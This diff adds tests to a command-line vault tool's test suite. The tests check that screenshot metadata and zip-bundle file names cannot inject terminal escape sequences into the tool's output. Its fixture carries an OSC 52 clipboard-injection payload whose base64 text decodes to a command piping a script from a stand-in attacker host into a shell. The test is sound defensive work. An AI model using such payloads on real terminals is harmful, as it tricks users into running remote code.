@@ -255,3 +255,34 @@ def test_not_a_bundle(tmp_path, vault_home):
     junk.write_bytes(b"not a zip")
     assert "not a readable zip" in run(vault_home, "vault", "verify-bundle", str(junk),
                                        code=1).output
+
+
+# Text that came from a web page or a stranger's bundle: an OSC 52 sequence asks the terminal
+# to put text on the clipboard, others retitle or clear it.
+TERMINAL_ESCAPE = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\x9b31m"
+
+
+def test_page_text_cannot_drive_the_terminal(vault, vault_home, env):
+    vault.add(b"shot", {"kind": "screenshot", "page_title": f"Complaint{TERMINAL_ESCAPE}",
+                        "note": f"note{TERMINAL_ESCAPE}"})
+    listed = CliRunner().invoke(main, ["vault", "list", "--home", str(vault_home)], env=env)
+    item = vault.list()[0]
+    shown = CliRunner().invoke(main, ["vault", "show", item.id, "--home", str(vault_home)],
+                               env=env)
+    for result in (listed, shown):
+        assert result.exit_code == 0, result.output
+        assert "Complaint" in result.output
+        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", result.output), result.output
+
+
+def test_a_strangers_bundle_cannot_drive_the_terminal(home, tmp_path):
+    bundle = tmp_path / "bundle.zip"
+    with zipfile.ZipFile(bundle, "w") as zf:
+        zf.writestr("manifest.json", json.dumps({
+            "signing_key": {"public_key": "00" * 32}, "files": []}))
+        zf.writestr(f"screenshot/a{TERMINAL_ESCAPE}.png", b"x")
+    result = CliRunner().invoke(main, ["vault", "verify-bundle", str(bundle), "--home",
+                                       str(home)])
+    assert result.exit_code == 1
+    assert "not in the manifest" in result.output
+    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", result.output), result.output
